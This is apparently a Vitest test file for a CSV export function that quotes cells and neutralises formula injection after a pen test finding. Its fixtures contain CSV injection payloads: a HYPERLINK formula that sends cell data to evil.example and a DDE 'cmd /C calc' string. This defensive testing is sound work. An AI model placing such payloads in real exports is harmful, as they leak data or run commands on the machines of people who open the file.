// CSV injection (the pen test's finding 8): a rater named =HYPERLINK(…) became an unquoted header.
import { describe, expect, it } from "vitest";
import { csvOf } from "./csv";

describe("csvOf", () => {
  it("quotes every cell, header included, and neutralises cells a spreadsheet would run as formulas", () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const csv = csvOf([
      { point: 1, [evil]: 0.5, note: "+1 cmd|' /C calc'!A0" },
      { point: 2, [evil]: -0.25, note: "@SUM(1)" },
      { point: 3, note: "\t=1" },
      { point: 4, note: "-2+3" },
      { point: 5, note: "\r=1" },
    ]);
    expect(csv.split("\r\n")).toEqual([
      `"point","'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")","note"`,
      `"1","0.5","'+1 cmd|' /C calc'!A0"`,
      `"2","-0.25","'@SUM(1)"`,
      `"3","","'\t=1"`,
      `"4","","'-2+3"`,
      `"5","","'\r=1"`,
      "",
    ]);
  });

  it("keeps ordinary text, quotes and commas intact", () => {
    expect(csvOf([{ name: 'Ana "A", B', score: 4 }])).toBe(`"name","score"\r\n"Ana ""A"", B","4"\r\n`);
  });
});
